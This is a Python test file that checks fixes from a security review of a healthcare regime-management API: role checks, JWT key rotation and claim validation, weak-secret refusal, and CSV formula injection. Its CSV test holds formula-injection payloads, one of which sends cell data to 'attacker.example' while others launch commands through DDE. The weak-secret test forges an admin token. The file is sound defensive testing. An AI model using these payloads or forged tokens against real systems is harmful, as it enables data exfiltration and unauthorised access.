"""Attacks from the outside review (issue 17), each performed through the real app over HTTP.

Findings covered here: 1 (acting as the buddy without the buddy role), 3 (withdrawn identity-provider keys),
4 (no JWKS fetch on the event loop), 5 (token claims), 6 (weak secrets), 7 (CSV formula injection).
docs/security.md says what each fix guarantees.
"""

from __future__ import annotations

import asyncio
import contextlib
import csv
import io
import json
import logging
import os
import subprocess
import sys
import threading
import time
import uuid
import warnings
from datetime import timedelta
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import httpx
import jwt
import pydantic
import pytest
import yaml
from cryptography.hazmat.primitives.asymmetric import rsa
from jwt.algorithms import RSAAlgorithm

from settings import Settings
from tests.driver import Regime
from tests.harness import free_port, run_stack
from tests.test_buddy import PLAN as SUPPORT_PLAN
from tests.test_buddy import place_and_agree
from tools.polling import eventually

ROOT = Path(__file__).resolve().parent.parent
ISSUER = "https://login.example.nhs.uk/realms/special-measures"
GENERIC = "the bearer token is not valid"


def problem(r: httpx.Response) -> dict[str, Any]:
    assert r.headers["content-type"].startswith("application/problem+json"), (r.status_code, r.text)
    return r.json()


def bearer(token: str) -> dict[str, str]:
    return {"Authorization": f"Bearer {token}"}


# ---------------------------------------------------------------------------- an identity provider
class IdentityProvider:
    """A JWKS endpoint on a real loopback socket whose key set can change (rotation, withdrawal), that counts
    its fetches and, when `hold` is set, keeps each answer back until `release` is set (at most `hold` s)."""

    def __init__(self) -> None:
        self.keys: dict[str, rsa.RSAPrivateKey] = {}
        self.fetches = 0
        self.hold: float | None = None
        self.fetch_started = threading.Event()
        self.release = threading.Event()
        self.events: list[str] = []
        idp = self

        class JWKS(BaseHTTPRequestHandler):
            def do_GET(self):  # noqa: N802 (http.server's name)
                idp.fetches += 1
                idp.fetch_started.set()
                if idp.hold is not None:
                    idp.release.wait(idp.hold)
                    idp.events.append("jwks answered")
                body = json.dumps({"keys": [idp.jwk(kid) for kid in idp.keys]}).encode()
                self.send_response(200)
                self.send_header("Content-Type", "application/json")
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, *args):
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), JWKS)
        threading.Thread(target=self.server.serve_forever, daemon=True).start()
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}/protocol/openid-connect/certs"

    def add_key(self, kid: str) -> None:
        self.keys[kid] = rsa.generate_private_key(public_exponent=65537, key_size=2048)

    def jwk(self, kid: str) -> dict[str, Any]:
        d = json.loads(RSAAlgorithm.to_jwk(self.keys[kid].public_key()))
        return {**d, "kid": kid, "use": "sig", "alg": "RS256"}

    def token(self, kid: str, key: rsa.RSAPrivateKey | None = None, **claims: Any) -> str:
        now = int(time.time())
        body = {"sub": "a1b2c3", "roles": ["operations"], "iss": ISSUER, "aud": "special-measures",
                "iat": now, "exp": now + 300, **claims}
        return jwt.encode(body, key or self.keys[kid], algorithm="RS256", headers={"kid": kid})

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture
def idp():
    p = IdentityProvider()
    yield p
    p.release.set()
    p.close()


def oidc_stack(temporal_address: str, database_url: str, idp: IdentityProvider, **overrides: Any):
    return run_stack(temporal_address, database_url, environment="production", audit_hmac_key="k" * 32,
                     auth_jwks_url=idp.url,
                     auth_issuer=ISSUER, **overrides)


# ---------------------------------------------------------------------------- 1: the buddy role
async def test_only_a_buddy_role_user_of_the_buddy_trust_acts_as_the_buddy(stack):
    w, pid = await place_and_agree(stack, "RS1", "BS1")
    url = f"/regimes/{w.rid}/buddies/{pid}/plan-changes"
    new_plan = {"workstreams": SUPPORT_PLAN["workstreams"][:1]}
    body = {"plan": new_plan, "reason": "narrow the support to governance"}
    impostors = {
        # read-only staff who happen to belong to the buddy trust
        "operations of the buddy trust": stack.auth("ops-bs1", "operations", org="BS1"),
        # a trust-role user of the buddy trust (assigned to it as a trust)
        "trust user of the buddy trust": stack.auth("trust-bs1", "trust", trusts=["BS1"], org="BS1"),
        "commissioner of the buddy trust": stack.auth("ccg-bs1", "commissioner", trusts=["BS1"], org="BS1"),
        "admin of the buddy trust": stack.auth("admin-bs1", "admin", org="BS1"),
        "a buddy of another trust": stack.auth("buddy-bs9", "buddy", org="BS9"),
    }
    for who, headers in impostors.items():
        # Refused: 403 for those who may read the regime (operations, admin), and for those who may not the
        # 404 of a regime that does not exist (finding 9, tests/test_security_pages.py).
        r = await stack.http.post(url, json=body, headers=headers)
        assert r.status_code in (403, 404), (who, r.status_code, r.text)
        problem(r)
        # The same people cannot decide the buddy's open step by naming the role either.
        r = await stack.http.post(f"/regimes/{w.rid}/steps/BS1.q1.forecast/decisions", headers=headers,
                                  json={"action": "sign_off", "role": "buddy", "payload": {}})
        assert r.status_code in (403, 404), (who, r.status_code, r.text)
        problem(r)
    await w.settle(pid)
    proposed = await stack.pool.fetchval(
        "SELECT count(*) FROM audit_log WHERE workflow_id = $1 AND event = 'support_plan.change_proposed'", pid)
    assert proposed == 0
    assert (await w.state(pid)).plan_changes == []
    # The buddy itself still proposes, audited as the buddy.
    r = await stack.http.post(url, json=body, headers=w.buddy("BS1", "planner"))
    assert r.status_code == 201, r.text
    await w.settle(pid)
    row = await stack.pool.fetchrow(
        "SELECT actor, role FROM audit_log WHERE workflow_id = $1 AND event = 'support_plan.change_proposed'", pid)
    assert dict(row) == {"actor": "planner-BS1", "role": "buddy"}


# ---------------------------------------------------------------------------- 3: withdrawn keys
async def test_a_key_the_identity_provider_withdraws_stops_being_trusted(temporal_address, database_url, idp):
    idp.add_key("k1")
    async with oidc_stack(temporal_address, database_url, idp, auth_jwks_cache_seconds=1,
                          auth_jwks_refresh_cooldown_seconds=3600) as s:
        old = idp.token("k1")
        assert (await s.http.get("/regimes", headers=bearer(old))).status_code == 200
        # The provider rotates: k1 is withdrawn (e.g. it leaked), k2 replaces it.
        del idp.keys["k1"]
        idp.add_key("k2")
        await asyncio.sleep(1.2)  # longer than AUTH_JWKS_CACHE_SECONDS: the cached key set has expired
        r = await s.http.get("/regimes", headers=bearer(old))
        assert r.status_code == 401, r.text
        assert problem(r)["detail"] == GENERIC
        assert (await s.http.get("/regimes", headers=bearer(idp.token("k2")))).status_code == 200
        assert idp.fetches == 2


async def test_unknown_key_ids_refetch_the_keys_at_most_once_per_cooldown(temporal_address, database_url, idp):
    idp.add_key("k1")
    async with oidc_stack(temporal_address, database_url, idp, auth_jwks_cache_seconds=3600,
                          auth_jwks_refresh_cooldown_seconds=1) as s:
        assert (await s.http.get("/regimes", headers=bearer(idp.token("k1")))).status_code == 200
        assert idp.fetches == 1
        # A flood of tokens naming made-up key ids does not turn into a flood of fetches.
        forger = rsa.generate_private_key(public_exponent=65537, key_size=2048)
        for _ in range(20):
            r = await s.http.get("/regimes", headers=bearer(idp.token(uuid.uuid4().hex, key=forger)))
            assert r.status_code == 401, r.text
        assert idp.fetches == 1
        # A key the provider adds is found by a refetch once the cooldown has passed, well before the cache
        # expires; the refetched set no longer holds the withdrawn k1.
        del idp.keys["k1"]
        idp.add_key("k2")
        await asyncio.sleep(1.2)
        assert (await s.http.get("/regimes", headers=bearer(idp.token("k2")))).status_code == 200
        assert idp.fetches == 2
        old = idp.token("k1", key=forger)  # k1 is gone, so anything signed "as k1" is refused
        assert (await s.http.get("/regimes", headers=bearer(old))).status_code == 401


# ---------------------------------------------------------------------------- 4: no JWKS fetch on the loop
@pytest.mark.parametrize("path, as_cookie", [("/web/sign-in", False), ("/web/sign-in", True),
                                              ("/web/regimes", False), ("/regimes", False)])
async def test_a_slow_identity_provider_does_not_hold_other_requests(temporal_address, database_url, idp,
                                                                     path, as_cookie):
    """The JWKS endpoint holds its answer (up to 3 s) until the test has had its liveness answer. If verifying
    the token blocked the event loop, liveness could only answer after the JWKS did."""
    idp.add_key("k1")
    async with oidc_stack(temporal_address, database_url, idp) as s:
        idp.hold = 3.0
        token = idp.token("k1")
        headers = {"Cookie": f"sm_session={token}"} if as_cookie else bearer(token)
        async with httpx.AsyncClient(base_url=s.base_url, timeout=30) as other:
            slow = asyncio.create_task(other.get(path, headers=headers))
            await asyncio.to_thread(idp.fetch_started.wait, 30)
            live = await s.http.get("/health/live")
            idp.events.append("liveness answered")
            idp.release.set()
            r = await slow
        assert live.status_code == 200
        assert r.status_code == 200, r.text
        assert idp.events == ["liveness answered", "jwks answered"]


# ---------------------------------------------------------------------------- 5: token claims
def hs256(s: Settings, **claims: Any) -> str:
    now = int(time.time())
    body = {"sub": "u-1", "roles": ["operations"], "iss": s.auth_issuer, "aud": s.auth_audience,
            "iat": now, "exp": now + 600, **claims}
    return jwt.encode({k: v for k, v in body.items() if v is not ...}, s.auth_jwt_secret.get_secret_value(), algorithm="HS256")


async def test_token_claims_are_required_bounded_and_refused_generically(stack, caplog):
    s = stack.settings
    now = int(time.time())
    refused = {
        "no exp (would never expire)": hs256(s, exp=...),
        "no iat": hs256(s, iat=...),
        "no sub": hs256(s, sub=...),
        "empty sub": hs256(s, sub=" "),
        "sub of the service": hs256(s, sub="system"),
        "sub dressed as the service": hs256(s, sub="System-scheduler"),
        "non-string sub": hs256(s, sub=42),
        "non-string org": hs256(s, org={"ods": "RXX"}),
        "numeric org": hs256(s, org=7),
        "role of the service": hs256(s, roles=["system"]),
        "non-string trust": hs256(s, roles=["trust"], trusts=[["RXX"]]),
        "string iat": hs256(s, iat=str(now)),
        "lifetime beyond the cap": hs256(s, iat=now, exp=now + s.auth_max_token_lifetime_seconds + 60),
        "issued in the future beyond the leeway": hs256(s, iat=now + 3600, exp=now + 7200),
        "over-long sub": hs256(s, sub="u" * 201),
    }
    with caplog.at_level(logging.INFO, logger="api.auth"):
        for why, token in refused.items():
            r = await stack.http.get("/regimes", headers=bearer(token))
            assert r.status_code == 401, (why, r.status_code, r.text)
            body = problem(r)
            assert body["type"].endswith("token-invalid") and body["detail"] == GENERIC, (why, body)
            assert r.headers["www-authenticate"].startswith("Bearer")
    # The reason is in the server's log, not in the answer.
    logged = caplog.text
    assert "exp" in logged and "iat" in logged and "service's own identity" in logged and "org" in logged

    accepted = {
        "iat a few seconds ahead (clock skew)": hs256(s, iat=now + 3, exp=now + 600),
        "exactly the longest lifetime": hs256(s, iat=now, exp=now + s.auth_max_token_lifetime_seconds),
        "string org": hs256(s, org="RXX"),
        "a sub that only contains the word": hs256(s, sub="ops-system-1"),
    }
    for why, token in accepted.items():
        r = await stack.http.get("/regimes", headers=bearer(token))
        assert r.status_code == 200, (why, r.status_code, r.text)

    expired = hs256(s, iat=now - 7200, exp=now - 3600)
    r = await stack.http.get("/regimes", headers=bearer(expired))
    assert r.status_code == 401 and problem(r)["type"].endswith("token-expired")
    # The web sign-in refuses the same tokens (and does not fail on them).
    for why in ("no sub", "non-string org", "sub of the service"):
        r = await stack.http.post("/web/sign-in", data={"token": refused[why], "next": "/web/regimes"},
                                  headers={"Origin": stack.base_url})
        assert r.status_code == 400, (why, r.status_code)
        r = await stack.http.get("/web/regimes", headers=bearer(refused[why]))
        assert r.status_code == 303 and "/web/sign-in" in r.headers["location"], (why, r.status_code)


# ---------------------------------------------------------------------------- 6: weak secrets
def test_settings_refuse_short_or_default_secrets_outside_local():
    for weak in ("x", "a" * 31, "é" * 15, Settings.model_fields["auth_jwt_secret"].default):
        with pytest.raises(pydantic.ValidationError, match="AUTH_JWT_SECRET"):
            Settings(_env_file=None, environment="production", auth_jwt_secret=weak, audit_hmac_key="k" * 32)
    assert Settings(_env_file=None, environment="production", auth_jwt_secret="a" * 32, audit_hmac_key="k" * 32)
    # A local service that listens beyond loopback with the public default secret is a deployment.
    with pytest.raises(pydantic.ValidationError, match="API_HOST"):
        Settings(_env_file=None, environment="local", api_host="0.0.0.0")
    assert Settings(_env_file=None, environment="local", api_host="0.0.0.0", auth_jwt_secret="s" * 40)
    assert Settings(_env_file=None, environment="local")


def test_the_container_cannot_start_with_the_default_or_no_secret():
    dockerfile = (ROOT / "Dockerfile").read_text()
    assert "ENVIRONMENT=production" in dockerfile and "AUTH_JWT_SECRET" not in dockerfile
    env = yaml.safe_load((ROOT / "docker-compose.yml").read_text())["services"]["api"]["environment"]
    assert env["ENVIRONMENT"] == "production"
    # ${VAR:?message}: compose refuses to start when it is unset or empty; there is no default to fall back on.
    assert str(env["AUTH_JWT_SECRET"]).startswith("${AUTH_JWT_SECRET:?")


async def test_the_api_refuses_to_serve_with_a_weak_secret(temporal_address, database_url):
    """The attack: the service deployed with AUTH_JWT_SECRET=x, anyone mints an admin token with "x"."""
    port = free_port()
    env = {**os.environ, "ENVIRONMENT": "production", "AUTH_JWT_SECRET": "x", "AUDIT_HMAC_KEY": "k" * 32,
           "API_PORT": str(port),
           "TEMPORAL_ADDRESS": temporal_address, "DATABASE_URL": database_url,
           "DATABASE_SCHEMA": "s_" + uuid.uuid4().hex[:12]}
    env.pop("AUTH_JWKS_URL", None)
    proc = subprocess.Popen([sys.executable, "-m", "uvicorn", "api.app:app_factory", "--factory", "--host",
                             "127.0.0.1", "--port", str(port)], cwd=ROOT, env=env, stdout=subprocess.PIPE,
                            stderr=subprocess.STDOUT, text=True)
    try:
        with warnings.catch_warnings():
            warnings.simplefilter("ignore", jwt.warnings.InsecureKeyLengthWarning)
            forged = jwt.encode({"sub": "intruder", "roles": ["admin"], "iss": "special-measures-local",
                                 "aud": "special-measures", "iat": int(time.time()),
                                 "exp": int(time.time()) + 600}, "x", algorithm="HS256")
        async with httpx.AsyncClient(base_url=f"http://127.0.0.1:{port}", timeout=5) as http:

            async def exited() -> bool:
                with contextlib.suppress(httpx.TransportError):
                    r = await http.get("/regimes", headers=bearer(forged))
                    pytest.fail(f"the API served with AUTH_JWT_SECRET=x: a forged admin token got {r.status_code}")
                return proc.poll() is not None

            await eventually(exited, what="the API to exit", timeout=120, interval=0.2)
        assert proc.wait(10) != 0
        assert "AUTH_JWT_SECRET must be at least 32 bytes" in proc.stdout.read()
    finally:
        if proc.poll() is None:
            proc.kill()
            proc.wait(10)


# ---------------------------------------------------------------------------- 7: CSV formula injection
async def test_the_trust_audit_csv_does_not_carry_live_formulas(stack):
    reg = await Regime.place(stack, "RS7")
    await stack.settle(reg.id)
    payloads = {
        "reason": '=HYPERLINK("http://attacker.example/?"&A1,"Click for details")',
        "request_id": "+cmd|' /C calc'!A0",
        "actor": "@SUM(1+1)*cmd|' /C calc'!A0",
    }
    r = await stack.http.post(f"/regimes/{reg.id}/steps/improvement_plan/deadline",
                              headers={**stack.auth(payloads["actor"], "regulator"),
                                       "X-Request-Id": payloads["request_id"]},
                              json={"new_due": str(reg.today + timedelta(days=40)), "reason": payloads["reason"]})
    assert r.status_code == 200, r.text
    r = await stack.http.post(f"/regimes/{reg.id}/steps/improvement_plan/deadline",
                              headers=stack.auth("reg-2", "regulator"),
                              json={"new_due": str(reg.today + timedelta(days=41)), "reason": "-2+3"})
    assert r.status_code == 200, r.text
    await stack.settle(reg.id)
    ops = stack.auth("ops-1", "operations")
    r = await stack.http.get("/trusts/RS7/audit", params={"format": "csv"}, headers=ops)
    assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(r.text)))
    cells = [v for row in rows for v in row.values()]
    live = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert live == [], live
    amended = [row for row in rows if row["actor"] == "'" + payloads["actor"]]
    assert amended and amended[0]["reason"] == "'" + payloads["reason"]
    assert amended[0]["request_id"] == "'" + payloads["request_id"]
    assert any(row["reason"] == "'-2+3" for row in rows)
    # The JSON export is data, not a spreadsheet: it keeps the values as they were written.
    items = (await stack.http.get("/trusts/RS7/audit", headers=ops)).json()["items"]
    assert any(it["reason"] == payloads["reason"] and it["actor"] == payloads["actor"] for it in items)
